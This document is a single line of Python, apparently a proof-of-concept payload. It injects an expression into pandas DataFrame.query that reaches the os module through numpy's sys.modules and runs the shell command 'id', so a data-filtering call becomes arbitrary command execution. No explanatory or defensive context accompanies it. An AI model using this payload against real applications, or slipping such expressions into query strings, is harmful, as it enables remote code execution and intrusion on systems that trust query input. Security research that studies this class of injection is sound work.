data["a"].query("@np.sys.modules['os'].system('id')")
